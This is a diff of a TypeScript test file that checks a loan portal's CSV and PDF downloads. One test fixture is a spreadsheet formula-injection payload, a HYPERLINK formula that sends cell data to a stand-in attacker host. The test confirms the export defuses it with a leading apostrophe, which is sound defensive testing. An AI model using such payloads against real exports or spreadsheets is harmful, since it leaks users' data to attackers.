@@ -4,7 +4,16 @@ import { csvRows } from '../../testing/csv-rows.ts';
 import { pdfPageTexts } from '../../testing/pdf-text.ts';
 import { startTestApp, type TestApp } from '../../testing/start-test-app.ts';
 
-type Row = { TransactionDate: string; TransactionTime: string; TransactionDescription: string; PrincipalAmount: number; InterestAmount: number; OtherAmount: number; TotalPaymentAmount: number; RunningPrincipalBalance: number };
+type Row = {
+  TransactionDate: string;
+  TransactionTime: string;
+  TransactionDescription: string;
+  PrincipalAmount: number;
+  InterestAmount: number;
+  OtherAmount: number;
+  TotalPaymentAmount: number;
+  RunningPrincipalBalance: number;
+};
 
 const HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Refund")';
 const ACCENTED = 'Payment from José Núñez';
@@ -15,7 +24,10 @@ describe('accounts routes: downloaded CSV and PDF documents', () => {
   let loan = '';
   const get = (path: string) => app.call(path, { headers: { UserToken: token } });
   const download = async (DownloadType: number, DaysOfHistory = 90) => {
-    const res = await app.call('/api/AccountHistory/RetrieveDownloadToken', { json: { AccountNumber: loan, DaysOfHistory, DownloadType }, headers: { UserToken: token } });
+    const res = await app.call('/api/AccountHistory/RetrieveDownloadToken', {
+      json: { AccountNumber: loan, DaysOfHistory, DownloadType },
+      headers: { UserToken: token },
+    });
     return app.call(`/api/AccountHistory/DownloadAccountHistory?token=${await res.text()}`);
   };
 
@@ -26,8 +38,26 @@ describe('accounts routes: downloaded CSV and PDF documents', () => {
     const today = app.ctx.clock().toISOString().slice(0, 10);
     // A borrower-typed description reaches the history through payment memos: one hostile, one accented.
     await insertHistory(app.ctx.db, loan, [
-      { date: today, time: '09:15:00', description: HOSTILE, principal: 0, interest: 0, other: -15, total: -15, runningBalance: 0 },
-      { date: today, time: '09:16:00', description: ACCENTED, principal: 0, interest: 0, other: 0, total: 0, runningBalance: 0 },
+      {
+        date: today,
+        time: '09:15:00',
+        description: HOSTILE,
+        principal: 0,
+        interest: 0,
+        other: -15,
+        total: -15,
+        runningBalance: 0,
+      },
+      {
+        date: today,
+        time: '09:16:00',
+        description: ACCENTED,
+        principal: 0,
+        interest: 0,
+        other: 0,
+        total: 0,
+        runningBalance: 0,
+      },
     ]);
   }, 180_000);
   afterAll(() => app.close());
@@ -39,14 +69,32 @@ describe('accounts routes: downloaded CSV and PDF documents', () => {
     const bytes = Buffer.from(await res.arrayBuffer());
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const [header, ...rows] = csvRows(bytes.subarray(3).toString('utf8'));
-    expect(header).toEqual(['TransactionDate', 'TransactionTime', 'TransactionDescription', 'PrincipalAmount', 'InterestAmount', 'OtherAmount', 'TotalPaymentAmount', 'RunningPrincipalBalance']);
+    expect(header).toEqual([
+      'TransactionDate',
+      'TransactionTime',
+      'TransactionDescription',
+      'PrincipalAmount',
+      'InterestAmount',
+      'OtherAmount',
+      'TotalPaymentAmount',
+      'RunningPrincipalBalance',
+    ]);
     expect(rows.length).toBe(List.length);
     const defused = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
-    expect(rows).toEqual(List.map((r) => [r.TransactionDate, r.TransactionTime, defused(r.TransactionDescription), ...[r.PrincipalAmount, r.InterestAmount, r.OtherAmount, r.TotalPaymentAmount, r.RunningPrincipalBalance].map((n) => n.toFixed(2))]));
+    expect(rows).toEqual(
+      List.map((r) => [
+        r.TransactionDate,
+        r.TransactionTime,
+        defused(r.TransactionDescription),
+        ...[r.PrincipalAmount, r.InterestAmount, r.OtherAmount, r.TotalPaymentAmount, r.RunningPrincipalBalance].map(
+          (n) => n.toFixed(2),
+        ),
+      ]),
+    );
   });
 
   it('when a description is a formula then the CSV cell is plain text starting with an apostrophe, and a negative amount stays a number', async () => {
-    const rows = csvRows((await (await download(0)).text()));
+    const rows = csvRows(await (await download(0)).text());
     const hostile = rows.find((r) => r[2]?.includes('HYPERLINK'))!;
     expect(hostile[2]).toBe(`'${HOSTILE}`);
     expect(hostile[5]).toBe('-15.00');
@@ -59,18 +107,25 @@ describe('accounts routes: downloaded CSV and PDF documents', () => {
     expect(res.headers.get('content-type')).toMatch(/application\/pdf/);
     const pages = await pdfPageTexts(Buffer.from(await res.arrayBuffer()));
     expect(pages[0]).toContain(loan);
-    expect(pages[0]).toMatch(new RegExp(`Period\\s+\\d{4}-\\d{2}-\\d{2} to ${app.ctx.clock().toISOString().slice(0, 10)} \\(36500 days\\)`));
+    expect(pages[0]).toMatch(
+      new RegExp(`Period\\s+\\d{4}-\\d{2}-\\d{2} to ${app.ctx.clock().toISOString().slice(0, 10)} \\(36500 days\\)`),
+    );
     expect(pages[0]).toMatch(new RegExp(`Transactions\\s+${List.length}\\b`));
     expect(pages[0]).toContain('Fixture Bank');
     expect(pages[0]).toContain(`Page 1 of ${pages.length}`);
     // The headings are the table's labels from the settings catalogue (accountHistory.*Column), as on screen.
-    expect(pages[0]).toMatch(/Date\s+Time\s+Description\s+Principal\s+Interest\s+Other\s+Total Payment\s+Principal Balance/);
+    expect(pages[0]).toMatch(
+      /Date\s+Time\s+Description\s+Principal\s+Interest\s+Other\s+Total Payment\s+Principal Balance/,
+    );
     expect(pages.join('\n')).toContain(ACCENTED);
   });
 
   it("when the lender renames a history column then the PDF's heading uses the lender's label", async () => {
-    const settings = (values: Record<string, string>) => app.call('/__mock/settings', { method: 'PUT', json: { settings: values, institutionOptions: {} } });
-    expect((await settings({ 'accountHistory.principalColumn': 'Capital', 'accountHistory.dateColumn': 'Posted' })).status).toBeLessThan(300);
+    const settings = (values: Record<string, string>) =>
+      app.call('/__mock/settings', { method: 'PUT', json: { settings: values, institutionOptions: {} } });
+    expect(
+      (await settings({ 'accountHistory.principalColumn': 'Capital', 'accountHistory.dateColumn': 'Posted' })).status,
+    ).toBeLessThan(300);
     try {
       const [text] = await pdfPageTexts(Buffer.from(await (await download(1)).arrayBuffer()));
       expect(text).toMatch(/Posted\s+Time\s+Description\s+Capital\s+Interest/);
@@ -81,8 +136,19 @@ describe('accounts routes: downloaded CSV and PDF documents', () => {
 
   it('when the payoff breakdown is downloaded then its table shows the total payoff amount for the loan and borrower', async () => {
     const today = app.ctx.clock().toISOString().slice(0, 10);
-    const tokenText = await (await app.call('/api/PaymentInformation/RetrieveDownloadToken', { json: { AccountNumber: loan, EffectiveDate: today }, headers: { UserToken: token } })).json();
-    const [text] = await pdfPageTexts(Buffer.from(await (await app.call(`/api/PaymentInformation/DownloadPayoffQuoteBreakdown?downloadToken=${tokenText}`)).arrayBuffer()));
+    const tokenText = await (
+      await app.call('/api/PaymentInformation/RetrieveDownloadToken', {
+        json: { AccountNumber: loan, EffectiveDate: today },
+        headers: { UserToken: token },
+      })
+    ).json();
+    const [text] = await pdfPageTexts(
+      Buffer.from(
+        await (
+          await app.call(`/api/PaymentInformation/DownloadPayoffQuoteBreakdown?downloadToken=${tokenText}`)
+        ).arrayBuffer(),
+      ),
+    );
     expect(text).toMatch(/Item\s+Amount/);
     expect(text).toMatch(/Total payoff amount\s+\$[\d,]+\.\d{2}/);
     expect(text).toContain(loan);
@@ -92,7 +158,9 @@ describe('accounts routes: downloaded CSV and PDF documents', () => {
 
   it('when a statement is opened then its PDF has the letterhead, the account and the transaction table', async () => {
     const year = app.ctx.clock().getUTCFullYear() - 1;
-    const [s] = (await (await get(`/api/accountEStatements/GetStatementList?AccountNumber=${loan}&Year=${year}`)).json()).StatementList;
+    const [s] = (
+      await (await get(`/api/accountEStatements/GetStatementList?AccountNumber=${loan}&Year=${year}`)).json()
+    ).StatementList;
     const q = new URLSearchParams({ Date: s.Date, Number: s.Number, Type: s.Type, Id: s.Id });
     const { StatementUrl } = await (await get(`/api/AccountEstatements/GetAmsiveStatementUrl?${q.toString()}`)).json();
     const [text] = await pdfPageTexts(Buffer.from(await (await app.call(StatementUrl)).arrayBuffer()));
